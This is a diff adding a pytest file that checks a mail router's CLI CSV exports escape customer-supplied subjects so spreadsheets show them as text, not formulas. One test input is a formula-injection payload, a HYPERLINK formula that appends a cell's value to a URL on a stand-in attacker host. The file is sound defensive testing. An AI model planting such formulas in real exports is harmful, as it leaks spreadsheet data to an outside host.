@@ -1,0 +1,69 @@
+"""What a head of department gets from the CLI's exports and a request's story, with real
+mail through the real daemon into a real SQLite registry: CSV cells a spreadsheet opens
+as text, never as a formula; times of a request's story in the company's zone."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from contextlib import redirect_stderr, redirect_stdout
+from datetime import datetime, timedelta, timezone
+from typing import Any
+
+import pytest
+
+from mailrouter.config import ControlConfig, RegistryConfig
+from tests.control_support import mail, send, write_routing
+
+pytestmark = pytest.mark.asyncio
+MSK = timezone(timedelta(hours=3))
+CONTROL = ControlConfig(replies=("replies@example.com",), remind_after=0, escalate_after=7200)
+
+
+async def _daemon(make_app: Any, tmp_path: Any) -> tuple[Any, Any]:
+    app = await make_app(routing=write_routing(tmp_path), control=CONTROL,
+                         registry=RegistryConfig(f"sqlite+aiosqlite:///{tmp_path / 'r.db'}"))
+    app.sla_task.cancel()
+    cfg = tmp_path / "config.yaml"
+    cfg.write_text(f"registry: {{url: 'sqlite+aiosqlite:///{tmp_path / 'r.db'}'}}\n"
+                   f"routing: ['{tmp_path / 'rules' / '*.yaml'}']\n", encoding="utf-8")
+    return app, cfg
+
+
+async def _cli(*argv: str) -> tuple[int, str]:
+    from mailrouter.cli import main
+    out = io.StringIO()
+
+    def go() -> int:
+        with redirect_stdout(out), redirect_stderr(io.StringIO()):
+            try:
+                return main(list(argv))
+            except SystemExit as exc:
+                return int(exc.code or 0)
+    code = await asyncio.to_thread(go)
+    return code, out.getvalue()
+
+
+async def test_csv_cells_from_mail_never_become_formulas(make_app, tmp_path):
+    """A customer's subject starting with = + - @ is written with a leading
+    apostrophe, so Excel and LibreOffice show it as text instead of running it; Cyrillic
+    and an ordinary subject are left as they are."""
+    app, cfg = await _daemon(make_app, tmp_path)
+    port = app.bound["smtp"][1]
+    subjects = ['=HYPERLINK("http://evil.example/?"&A1,"Счёт")', "+7 495 123-45-67",
+                "-2+3", "@SUM(A1:A9)", "Счёт на оплату"]
+    for i, subject in enumerate(subjects):
+        app.pipeline.clock = lambda i=i: datetime(2027, 1, 11, 10, i, tzinfo=MSK)
+        await send(port, mail(f"c{i}@client.example", subject, f"m{i}@client"),
+                   f"c{i}@client.example")
+    code, out = await _cli("registry", "search", "--csv", "-n", "0", "-c", str(cfg))
+    assert code == 0
+    got = sorted(r["subject"] for r in csv.DictReader(io.StringIO(out)))
+    assert got == sorted(["'" + s for s in subjects[:4]] + ["Счёт на оплату"])
+    code, out = await _cli("request", "show", "1", "--csv", "-c", str(cfg))
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows[0]["detail"] == "'" + subjects[0]
+    code, out = await _cli("registry", "history", "client.example", "--csv", "-c", str(cfg))
+    assert "'@SUM(A1:A9)" in out and "\n@SUM" not in out and ",@SUM" not in out
